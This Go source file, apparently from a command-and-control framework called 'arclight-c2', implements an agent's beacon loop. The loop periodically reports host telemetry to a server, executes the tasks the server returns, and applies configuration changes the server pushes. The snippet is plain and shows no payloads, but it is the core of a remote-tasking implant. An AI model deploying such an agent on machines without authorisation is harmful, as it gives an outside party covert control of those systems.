package agent

import (
	"context"
	"time"

	"github.com/arclight-c2/arclight/internal/models"
	"github.com/arclight-c2/arclight/internal/server/dto"
	"github.com/arclight-c2/arclight/pkg/logger"
	"go.uber.org/zap"
)

// Runtime drives the beacon loop: build payload, send, execute whatever came
// back, buffer the results for the next cycle. A failed beacon is skipped
// without backoff; the loop keeps its cadence and the buffered results ride
// the next successful beacon.
type Runtime struct {
	cfg       *Config
	client    *Client
	collector *Collector
	executor  *Executor
	logger    *logger.CanonicalLogger

	pendingResults []models.TaskResult
}

func NewRuntime(cfg *Config, client *Client, log *logger.CanonicalLogger) *Runtime {
	return &Runtime{
		cfg:       cfg,
		client:    client,
		collector: NewCollector(),
		executor:  NewExecutor(log),
		logger:    log,
	}
}

// Run beacons until the context is canceled.
func (r *Runtime) Run(ctx context.Context) error {
	r.logger.Info("agent runtime started",
		zap.String(logger.FieldAgentID, r.cfg.AgentID),
		zap.Int("beacon_interval_seconds", r.cfg.Interval()),
	)

	for {
		r.cycle(ctx)

		select {
		case <-ctx.Done():
			r.logger.Info("agent runtime stopping")
			return ctx.Err()
		case <-time.After(time.Duration(r.cfg.Interval()) * time.Second):
		}
	}
}

func (r *Runtime) cycle(ctx context.Context) {
	req := &dto.BeaconRequest{
		Status:         models.AgentStatusOnline,
		BasicTelemetry: r.collector.Basic(),
		TaskResults:    r.pendingResults,
	}
	if r.cfg.MetricsEnabled() {
		req.SystemMetrics = r.collector.System()
	}

	resp, err := r.client.Beacon(ctx, req)
	if err != nil {
		// Keep buffered results for the next cycle.
		r.logger.WithError(err).Warn("beacon failed")
		return
	}
	r.pendingResults = nil

	if len(resp.NewTasks) > 0 {
		r.logger.Info("tasks received", zap.Int(logger.FieldTaskCount, len(resp.NewTasks)))
		for _, instr := range resp.NewTasks {
			r.pendingResults = append(r.pendingResults, r.executor.Execute(ctx, instr))
		}
	}

	if resp.ConfigUpdate != nil {
		if err := r.cfg.Apply(resp.ConfigUpdate); err != nil {
			r.logger.WithError(err).Warn("rejected config update")
		} else {
			r.logger.Info("config update applied",
				zap.Int("beacon_interval_seconds", r.cfg.Interval()),
				zap.Bool("collect_system_metrics", r.cfg.MetricsEnabled()),
			)
		}
	}
}
